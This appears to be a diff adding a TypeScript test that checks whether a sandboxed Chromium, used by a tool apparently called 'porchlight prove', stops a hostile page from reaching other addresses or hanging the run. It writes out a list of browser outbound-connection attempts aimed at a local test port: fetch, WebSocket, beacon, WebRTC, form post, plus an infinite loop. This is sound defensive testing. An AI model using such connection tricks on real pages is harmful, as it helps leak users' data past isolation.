@@ -1,0 +1,75 @@
+/** Scripts of a hostile app in the Chromium of `porchlight prove`: none reaches another address, and none keeps the run. */
+
+import type { AddressInfo } from 'node:net';
+import { createServer } from 'node:net';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { type Chromium, findChromium } from '../../sdk/src/cli/prove/site/chromium.ts';
+import { appWithPages } from '../sdk/support/prove/app-with-pages.ts';
+import { look } from '../sdk/support/prove/look.ts';
+import { page } from '../sdk/support/prove/plain-app.ts';
+import { endAfterFile } from '../support/cleanup.ts';
+import { TestClock } from '../support/clock.ts';
+import { createHarness, type Harness } from '../support/harness.ts';
+import { repositoryRoot } from '../support/repository.ts';
+import { findChromium as installed } from '../support/run/find-chromium.ts';
+
+let harness: Harness;
+let chromium: Chromium | null;
+beforeAll(async () => {
+  harness = await createHarness({ clock: new TestClock(new Date()) });
+  chromium = await findChromium(repositoryRoot, installed());
+});
+
+/** Something private on this machine: it notes everything that connects. */
+async function privatePort(): Promise<{ port: number; connections: string[] }> {
+  const connections: string[] = [];
+  const server = createServer((socket) => {
+    socket.on('data', (text) => connections.push(String(text).split('\r\n')[0] ?? ''));
+    socket.on('error', () => socket.destroy());
+    connections.push('connected');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  endAfterFile(async () => server.close());
+  return { port: (server.address() as AddressInfo).port, connections };
+}
+
+const attacks = (port: number): string => `
+  const away = '127.0.0.1:${port}';
+  const inWorker = \`try { new WebSocket('ws://\${away}/worker') } catch {} fetch('http://\${away}/worker', { mode: 'no-cors' }).catch(() => {})\`;
+  for (const attack of [
+    () => fetch('http://' + away + '/fetch', { mode: 'no-cors' }).catch(() => {}),
+    () => new WebSocket('ws://' + away + '/socket'),
+    () => new Worker(URL.createObjectURL(new Blob([inWorker], { type: 'text/javascript' }))),
+    () => navigator.sendBeacon('http://' + away + '/beacon', 'x'),
+    () => { new Image().src = 'http://' + away + '/image'; },
+    () => new EventSource('http://' + away + '/events'),
+    () => window.open('http://' + away + '/window'),
+    () => new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + away + '?transport=tcp', username: 'u', credential: 'c' }] }).createDataChannel('x'),
+    () => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://' + away; document.head.append(link); },
+    () => alert('stay here'),
+    () => document.forms[0].submit(),
+  ]) try { attack(); } catch {}`;
+
+describe('scripts of a hostile app', () => {
+  it('reach nothing but the app, and cannot keep the run', async () => {
+    expect(chromium).not.toBeNull();
+    const away = await privatePort();
+    const report = await look(
+      harness.baseUrl,
+      (service) =>
+        appWithPages(service, ({ res, url }, user) => {
+          if (!user) return page(res, '<a href="/in">In</a>');
+          if (url.pathname === '/endless') return page(res, `<p>${user.email}</p><script>for (;;) {}</script>`);
+          const form = `<form method="post" action="http://127.0.0.1:${away.port}/form"><input name="x"></form>`;
+          return page(
+            res,
+            `<p>${user.email}</p><a href="/endless">more</a>${form}<script>${attacks(away.port)}</script>`,
+          );
+        }),
+      { chromium, maxRequests: 120 },
+    );
+    expect(report.coverage.mode).toBe('chromium');
+    expect(report.coverage.reached).toContain('/endless');
+    expect(away.connections).toEqual([]);
+  });
+});
